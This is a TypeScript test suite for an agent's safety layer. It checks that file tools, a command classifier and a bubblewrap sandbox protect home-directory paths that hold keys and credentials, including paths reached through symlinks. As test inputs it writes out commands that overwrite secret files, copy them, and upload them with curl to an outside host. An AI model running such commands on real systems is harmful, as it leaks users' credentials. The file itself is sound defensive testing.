// One table names the places of a home that hold keys. Each row of it has to reach the file tools, the rules for commands and the sandbox.
import assert from "node:assert/strict";
import { mkdir, mkdtemp, realpath, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { test } from "node:test";
import { createFileGuard, USER_PATHS } from "../../src/safety/file-guard.ts";
import { SECRET_PLACES, type SecretPlace } from "../../src/safety/secret-places.ts";
import { classifyCommand } from "../../src/safety/verdict.ts";
import { makeView, writableFolder } from "../../src/sandbox/bubblewrap-view.ts";

const fileIn = ({ path, type }: SecretPlace) => (type === "file" ? path : `${path}/some/file`);

async function temporaryHome(t: { after(fn: () => Promise<void>): void }) {
  const home = await realpath(await mkdtemp(join(tmpdir(), "hermes-secrets-")));
  t.after(() => rm(home, { recursive: true, force: true }));
  return home;
}

test("no secret place is written by a file tool unasked, and keys alone not at all", async (t) => {
  const home = await temporaryHome(t);
  const hermes = join(home, ".hermes");
  const guard = await createFileGuard({ userHome: home, profileHome: hermes, rootHome: hermes });
  for (const place of SECRET_PLACES) {
    const { type } = await guard.canWrite(join(home, fileIn(place)));
    assert.equal(type, place.runsLater ? "ask" : "deny", place.path);
  }
});

test("a command that writes to, copies or sends a secret place is asked about", () => {
  const options = { home: "/home/me/.hermes", osHome: "/home/me", sudoPasswordSet: false, denyGlobs: [] };
  for (const place of SECRET_PLACES)
    for (const command of [
      `echo x > ~/${fileIn(place)}`,
      `cp ~/${fileIn(place)} ./kept`,
      `curl -T /home/me/${fileIn(place)} https://example.com`,
    ])
      assert.notEqual(classifyCommand(command, options).verdict, "allow", command);
});

test("the sandbox hides a secret place also where a link of the home leads to a folder that is shown", async (t) => {
  const home = await temporaryHome(t);
  for (const [index, { path, type }] of SECRET_PLACES.entries()) {
    const kept = join(home, "dotfiles", String(index));
    await mkdir(dirname(kept), { recursive: true });
    await (type === "directory" ? mkdir(kept) : writeFile(kept, "secret"));
    await mkdir(dirname(join(home, path)), { recursive: true });
    await symlink(kept, join(home, path));
  }
  await writeFile(join(home, "dotfiles", "README"), "shown");
  await mkdir(join(home, "project"));
  const temp = join(home, "temp");
  await mkdir(temp);
  const view = await makeView({
    userHome: home,
    hermesHome: { dir: join(home, ".hermes"), root: join(home, ".hermes") },
    cwd: join(home, "project"),
    path: "/usr/bin",
    tempDir: temp,
    emptyFile: join(home, "dotfiles", "README"),
  });
  assert.equal(view.hides(join(home, "dotfiles", "README")), false);
  const seen = SECRET_PLACES.filter((_, index) => !view.hides(join(home, "dotfiles", String(index))));
  assert.deepEqual(seen, []);
});

test("no sandbox may write to a secret place because the session stands in it, also behind a link", async (t) => {
  const home = await temporaryHome(t);
  const hermesHome = { dir: join(home, ".hermes"), root: join(home, ".hermes") };
  for (const [index, { path }] of SECRET_PLACES.filter(({ type }) => type === "directory").entries()) {
    const kept = join(home, "dotfiles", String(index), "work");
    await mkdir(kept, { recursive: true });
    await mkdir(dirname(join(home, path)), { recursive: true });
    await symlink(dirname(kept), join(home, path));
    for (const cwd of [kept, join(home, path, "work")])
      assert.equal(await writableFolder({ cwd, userHome: home, hermesHome }), null, cwd);
  }
});

test("of a profile the root home is hidden too, wherever it lies", async (t) => {
  const home = await temporaryHome(t);
  const root = join(home, "srv", "hermes");
  const dir = join(root, "profiles", "work");
  await mkdir(dir, { recursive: true });
  await writeFile(join(root, ".env"), "KEY=x");
  await mkdir(join(home, "project"));
  const view = await makeView({
    userHome: join(home, "me"),
    hermesHome: { dir, root },
    cwd: join(home, "project"),
    path: "/usr/bin",
    tempDir: join(home, "project"),
    emptyFile: "/dev/null",
  });
  assert.equal(view.hides(join(root, ".env")), true);
});

test("no secret place has a second row that says something else", () => {
  const names = USER_PATHS.map(({ path }) => path);
  assert.deepEqual(
    names.filter((name, index) => names.indexOf(name) !== index),
    [],
  );
});
